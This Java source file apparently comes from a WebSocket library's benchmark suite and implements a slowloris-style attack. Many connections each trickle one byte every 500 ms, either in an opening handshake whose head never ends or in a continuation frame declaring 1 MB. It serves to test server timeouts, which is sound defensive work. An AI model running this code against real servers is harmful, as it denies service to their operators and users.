package dev.wskit.benchmarks.attack;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Slow peers ("slowloris"): many connections, each sending one byte every
 * {@link #INTERVAL_MILLIS}, never finishing what they started, for the slow hold. Either the
 * opening handshake's head never ends, or, after a first fragment, a message never does. A server
 * without a read or handshake timeout keeps every such connection for as long as the peer likes.
 */
final class Trickle extends Attack {
    private static final long INTERVAL_MILLIS = 500;

    private final boolean upgradeFirst;
    private final byte[] start;
    private final byte filler;

    private Trickle(String name, String description, boolean upgradeFirst, byte[] start, byte filler) {
        super(name, description);
        this.upgradeFirst = upgradeFirst;
        this.start = start;
        this.filler = filler;
    }

    /** After a 1-byte first fragment, a continuation frame declaring 1 MB whose payload comes a byte at a time. */
    static Trickle message() {
        // Binary: the trickled bytes go out unmasked, so they unmask to anything, which text forbids (§8.1).
        byte[] first = Frames.frame(Frames.BINARY, new byte[] {'a'});
        byte[] next = Frames.header(Frames.CONTINUATION, 1_000_000);
        byte[] start = new byte[first.length + next.length];
        System.arraycopy(first, 0, start, 0, first.length);
        System.arraycopy(next, 0, start, first.length, next.length);
        return new Trickle("trickled-message", "a first fragment, then one byte every 500 ms", true, start, (byte) 'a');
    }

    /** An opening request whose head never ends: a header value growing a byte at a time. */
    static Trickle handshake(Target target) {
        String head = "GET / HTTP/1.1\r\nHost: " + target.host() + ":" + target.port() + "\r\nX-Slow: ";
        return new Trickle("trickled-handshake", "an opening request, one byte every 500 ms, never ending", false,
                head.getBytes(StandardCharsets.US_ASCII), (byte) 'a');
    }

    @Override
    String run(Target target, Scale scale) throws Exception {
        try (Peers peers = upgradeFirst ? Peers.open(target, target.handshake(), scale.slowConnections())
                : Peers.connect(target, scale.slowConnections())) {
            List<PeerStream> streams = new ArrayList<>();
            for (Peer peer : peers.all) {
                streams.add(new PeerStream(peer, start, new byte[] {filler}, Long.MAX_VALUE));
            }
            long deadline = System.nanoTime() + scale.slowHoldMillis() * 1_000_000;
            while (System.nanoTime() < deadline) {
                for (PeerStream stream : streams) {
                    stream.write(1);
                }
                Thread.sleep(INTERVAL_MILLIS);
            }
            return peers.fates();
        }
    }
}
